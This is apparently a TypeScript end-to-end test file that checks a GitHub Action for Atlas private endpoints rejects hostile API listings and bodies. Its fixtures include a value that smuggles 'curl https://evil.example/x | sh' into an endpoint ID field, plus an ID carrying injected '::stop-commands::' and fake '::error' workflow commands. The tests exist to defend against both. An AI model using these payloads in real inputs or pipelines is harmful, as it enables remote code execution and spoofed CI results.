/**
 * Issue 14 (items 1, 2, 4, 6 and 7) end to end: what an endpoint service lists and what an
 * endpoint answer names are data to validate, not to trust. Run as a runner runs the bundle,
 * against a stand-in that answers with hostile listings and bodies, judged by what a workflow
 * sees (exit code, log, outputs, summary) and by the reads the stand-in recorded.
 *
 * Every case here failed against the dist/ of main at 0f30422, before this change:
 * - the injected listing ID reached the log raw ("lists 1 endpoints: vpce-…" then a line
 *   "::stop-commands::x" and a line "::error title=Deploy approved::…"), was read, and with
 *   `wait-for: DELETED` its 404 passed the step;
 * - `{}`, a null list, `[1,2,3]`, objects, the wrong cloud's field and a paged `{"results": …}`
 *   all read as "no endpoints left" and passed `'*'` + `wait-for: DELETED` (exit 0, ✅);
 * - 10,000 listed IDs made 10,000 reads and a huge log and `endpoints` output; 90,000 GCP
 *   names ran past the deadline;
 * - a body naming another endpoint (a shell command included) passed, and its ID became the
 *   `endpoint-id` and `interface-endpoint-id` outputs;
 * - a GCP group AVAILABLE with a FAILED rule at index 150, a rule "FAILED " or "failed", a
 *   numeric endpointName or `endpoints` as an object passed a wait for AVAILABLE.
 */
import type { AtlasStandin, RequestRecord, StandinOptions, Step } from '../../standin/atlas-standin.js'
import { runAction, type ActionRun } from '../../standin/runner.js'
import { startStandin } from '../helpers/harness.js'
import { CLOUD_IDS, IDS, REQUIRED_INPUTS } from '../helpers/ids.js'

const V2_TYPE = 'application/vnd.atlas.2023-01-01+json'
const AWS_ID = IDS.interfaceEndpointId
const GCP_ID = CLOUD_IDS.gcpEndpointGroupName
const INJECTION =
  'vpce-0123456789abcdef0\n::stop-commands::x\n::error title=Deploy approved::All checks passed'
const SHELL = 'vpce-1"; curl https://evil.example/x | sh; echo "'
/** The i-th well-formed AWS endpoint ID. */
const vpce = (i: number) => `vpce-${i.toString(16).padStart(17, '0')}`

let standin: AtlasStandin
afterEach(async () => standin?.stop())

interface Case {
  cloud?: 'AWS' | 'GCP'
  inputs?: Record<string, string>
  standin?: Partial<StandinOptions>
}

async function run({ cloud = 'AWS', inputs = {}, standin: options = {} }: Case): Promise<ActionRun> {
  const endpointId = cloud === 'AWS' ? AWS_ID : GCP_ID
  standin = await startStandin({ cloudProvider: cloud, interfaceEndpointId: endpointId, ...options })
  const result = await runAction({
    inputs: {
      ...REQUIRED_INPUTS,
      'interface-endpoint-id': '',
      'cloud-provider': cloud,
      'endpoint-id': endpointId,
      'base-url': standin.baseUrlV2,
      'interval-seconds': '1',
      ...inputs
    }
  })
  expectOnlyMeantCommands(result)
  return result
}

/** A 200 with this body, as JSON of the v2 media type (or as given, when a string). */
const answer = (body: unknown): Step => ({
  raw: {
    status: 200,
    headers: { 'Content-Type': V2_TYPE },
    body: typeof body === 'string' ? body : JSON.stringify(body)
  }
})

/** The commands the action means to write: masks, annotations and its groups. */
const MEANT = /^::(add-mask|error|warning|notice|debug|group|endgroup)( [^:]*)?::/

/**
 * No line of the log that the action did not mean starts with `::`, and no annotation comes
 * from Atlas's text: every `::` line is one of the action's own commands, and none of them is
 * the injected one.
 */
function expectOnlyMeantCommands(result: ActionRun): void {
  const commands = `${result.stdout}\n${result.stderr}`.split('\n').filter(line => line.startsWith('::'))
  expect(commands.filter(line => !MEANT.test(line))).toEqual([])
  expect(commands.filter(line => /stop-commands|Deploy approved/.test(line.split('::')[1] ?? ''))).toEqual([])
  expect(`${result.stdout}\n${result.stderr}`).not.toMatch(/^::stop-commands::/m)
}

const endpointReads = (): RequestRecord[] => standin.requests.filter(r => r.target === 'endpoint')
const listingReads = (): RequestRecord[] =>
  standin.requests.filter(r => r.target === 'listing' && r.authorized)
const errors = (result: ActionRun): string[] =>
  result.stdout.split('\n').filter(line => line.startsWith('::error'))

/** A run that stopped on the listing: exit 1, no endpoint read, no pass anywhere. */
function expectStoppedOnListing(result: ActionRun): void {
  expect(result.exitCode).toBe(1)
  expect(endpointReads()).toEqual([])
  expect(listingReads()).toHaveLength(1)
  expect(result.summary).not.toContain('✅')
  expect(result.stdout).not.toMatch(/every endpoint is DELETED/)
  expect(errors(result)).toHaveLength(1)
}

describe("listed IDs are data to validate: '*' stops before reading any endpoint", () => {
  it.each(['DELETED', 'AVAILABLE'])(
    'an ID carrying workflow commands (wait-for: %s) never reaches the log raw',
    async waitFor => {
      const result = await run({
        inputs: { 'endpoint-id': '*', 'wait-for': waitFor },
        standin: { serviceScript: [answer({ interfaceEndpoints: [INJECTION] })] }
      })
      expectStoppedOnListing(result)
      expect(errors(result)[0]).toContain('1 of them not AWS interface endpoint IDs')
      expect(errors(result)[0]).toContain('the first: "vpce-0123456789abcdef0\\n::stop-commands::x\\n::error')
      expect(result.outputFile).not.toContain('stop-commands')
      expect(result.summary).not.toContain('stop-commands::x\n')
    }
  )

  it.each<[string, unknown, RegExp]>([
    ['{}', {}, /that has no fields at all/],
    [
      'a service without its list',
      { id: IDS.privateLinkId, status: 'AVAILABLE' },
      /no interfaceEndpoints field/
    ],
    ['a null list', { interfaceEndpoints: null }, /interfaceEndpoints is null, not a list/],
    ['[1,2,3]', { interfaceEndpoints: [1, 2, 3] }, /entry 1 is a number/],
    ['objects carrying the ID', { interfaceEndpoints: [{ id: AWS_ID }] }, /entry 1 is an object/],
    [
      'objects carrying the ID field',
      { interfaceEndpoints: [{ interfaceEndpointId: AWS_ID }] },
      /entry 1 is an object/
    ],
    [
      "the wrong cloud's field",
      { endpointGroupNames: [GCP_ID] },
      /It has endpointGroupNames.*check cloud-provider/
    ],
    [
      'a paged list',
      { results: [{ interfaceEndpoints: [] }], totalCount: 1 },
      /A paged list \(\\?"results\\?"\)/
    ],
    ['an ID listed twice', { interfaceEndpoints: [vpce(1), vpce(1)] }, /more than once/],
    ['".."', { interfaceEndpoints: ['..'] }, /the first: \\?"\.\.\\?"/]
  ])('%s never passes a teardown gate', async (_case, body, why) => {
    const result = await run({
      inputs: { 'endpoint-id': '*', 'wait-for': 'DELETED', 'timeout-seconds': '5' },
      standin: { serviceScript: [answer(body)] }
    })
    expectStoppedOnListing(result)
    expect(errors(result)[0]).toMatch(why)
  })

  it('an explicit empty list is the one "no endpoints", and passes a teardown gate', async () => {
    const result = await run({
      inputs: { 'endpoint-id': '*', 'wait-for': 'DELETED' },
      standin: {
        serviceScript: [answer({ id: IDS.privateLinkId, status: 'AVAILABLE', interfaceEndpoints: [] })]
      }
    })
    expect(result.exitCode).toBe(0)
    expect(result.stdout).toContain('every endpoint is DELETED')
  })

  it.each<[string, 'AWS' | 'GCP', number, (i: number) => string]>([
    ['10,000 AWS IDs', 'AWS', 10_000, vpce],
    ['90,000 short GCP names', 'GCP', 90_000, i => `g${i.toString(36)}`]
  ])(
    '%s stop fast with the count, small outputs and no reads, well within the deadline',
    async (_case, cloud, count, id) => {
      const listField = cloud === 'AWS' ? 'interfaceEndpoints' : 'endpointGroupNames'
      const result = await run({
        cloud,
        inputs: { 'endpoint-id': '*', 'wait-for': 'DELETED', 'timeout-seconds': '10' },
        standin: { serviceScript: [answer({ [listField]: Array.from({ length: count }, (_, i) => id(i)) })] }
      })
      expectStoppedOnListing(result)
      expect(errors(result)[0]).toContain(`lists ${count} entries in ${listField}, more than the 50`)
      expect(result.durationMs).toBeLessThan(5_000)
      expect(result.stdout.length).toBeLessThan(20_000)
      expect(result.outputFile.length).toBeLessThan(2_000)
      expect(result.summary.length).toBeLessThan(40_000)
    }
  )

  it('valid listed IDs are logged as they are, on one line, and read', async () => {
    const ids = [vpce(1), vpce(2)]
    const result = await run({
      inputs: { 'endpoint-id': '*', 'wait-for': 'AVAILABLE' },
      standin: { endpoints: ids.map(id => ({ id })) }
    })
    expect(result.exitCode).toBe(0)
    expect(result.stdout).toContain(`lists 2 endpoints: ${ids.join(', ')}.`)
    expect(new Set(endpointReads().map(r => r.endpointId))).toEqual(new Set(ids))
  })
})

describe('outputs that name things name what was asked', () => {
  const body = (id: unknown) => ({
    cloudProvider: 'AWS',
    connectionStatus: 'AVAILABLE',
    deleteRequested: false,
    errorMessage: null,
    interfaceEndpointId: id
  })

  it.each<[string, unknown]>([
    ['a shell command', SHELL],
    ['another endpoint', vpce(7)],
    ['the ID in upper case', AWS_ID.toUpperCase()],
    ['no ID at all', undefined],
    ['a number', 5]
  ])('an answer naming %s is a format error, and never an output', async (_case, id) => {
    const result = await run({ inputs: { 'wait-for': 'AVAILABLE' }, standin: { script: [answer(body(id))] } })
    expect(result.exitCode).toBe(1)
    expect(errors(result)[0]).toMatch(/interfaceEndpointId/)
    expect(result.summary).not.toContain('✅')
    expect(result.outputFile).not.toContain('evil.example')
    for (const name of ['endpoint-id', 'interface-endpoint-id']) {
      expect([undefined, '', AWS_ID]).toContain(result.outputs[name])
    }
  })

  it("with '*', a listed endpoint whose answer names another one stops the step", async () => {
    const result = await run({
      inputs: { 'endpoint-id': '*', 'wait-for': 'AVAILABLE' },
      standin: {
        serviceScript: [answer({ id: IDS.privateLinkId, interfaceEndpoints: [AWS_ID] })],
        script: [answer(body(vpce(7)))]
      }
    })
    expect(result.exitCode).toBe(1)
    expect(errors(result)[0]).toContain('another endpoint than the one asked for')
    expect(result.outputFile).not.toContain(vpce(7))
  })

  it('the endpoint-id outputs are the ID asked for', async () => {
    const result = await run({
      inputs: { 'wait-for': 'AVAILABLE' },
      standin: { script: [answer(body(AWS_ID))] }
    })
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toMatchObject({ 'endpoint-id': AWS_ID, 'interface-endpoint-id': AWS_ID })
  })
})

describe('GCP forwarding rules read strictly', () => {
  const group = (endpoints: unknown) =>
    answer({
      cloudProvider: 'GCP',
      status: 'AVAILABLE',
      endpointGroupName: GCP_ID,
      deleteRequested: false,
      errorMessage: null,
      endpoints
    })
  const rule = (name: unknown, status: string) => ({ endpointName: name, ipAddress: '10.128.0.10', status })
  const rules = (count: number, failed: number, status = 'FAILED') =>
    Array.from({ length: count }, (_, i) => rule(`rule-${i}`, i === failed ? status : 'AVAILABLE'))

  it.each<[string, unknown, RegExp]>([
    ['a FAILED rule at index 150', rules(200, 150), /forwarding rule rule-150 is FAILED/],
    ['a rule "FAILED "', rules(3, 1, 'FAILED '), /forwarding rule rule-1 is FAILED/],
    ['a rule "failed"', rules(3, 2, 'failed'), /forwarding rule rule-2 is FAILED/],
    ['a numeric endpointName', [rule('rule-0', 'AVAILABLE'), rule(7, 'FAILED')], /endpointName a number/],
    ['endpoints as an object', { 0: rule('rule-0', 'FAILED') }, /endpoints is an object/],
    ['1,001 rules', rules(1001, -1), /lists 1001 rules/]
  ])('a group AVAILABLE with %s never passes a wait for AVAILABLE', async (_case, endpoints, why) => {
    const result = await run({
      cloud: 'GCP',
      inputs: { 'wait-for': 'AVAILABLE' },
      standin: { script: [group(endpoints)] }
    })
    expect(result.exitCode).toBe(1)
    expect(result.summary).not.toContain('✅')
    expect(errors(result)[0]).toMatch(why)
  })
})
